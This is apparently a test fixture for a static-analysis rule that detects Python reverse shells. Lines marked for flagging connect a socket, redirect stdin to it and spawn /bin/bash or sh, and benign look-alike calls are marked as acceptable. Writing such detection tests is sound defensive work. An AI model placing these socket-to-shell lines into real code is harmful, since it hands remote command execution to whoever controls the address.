import os
import pty
import socket
import subprocess


def weak(address):
    s = socket.socket()
    s.connect(address)
    # ruleid: python-indirection-reverse-shell
    os.dup2(s.fileno(), 0)
    # ruleid: python-indirection-reverse-shell
    pty.spawn("/bin/bash")
    # ruleid: python-indirection-reverse-shell
    subprocess.Popen(["sh"], stdin=s.fileno())


def good(stream, command):
    # ok: python-indirection-reverse-shell
    subprocess.run(command, stdin=stream)
    # ok: python-indirection-reverse-shell
    pty.spawn("less")
    with open(os.devnull) as null:
        # ok: python-indirection-reverse-shell
        os.dup2(null.fileno(), 0)
    # ok: python-indirection-reverse-shell
    os.dup2(1, 2)
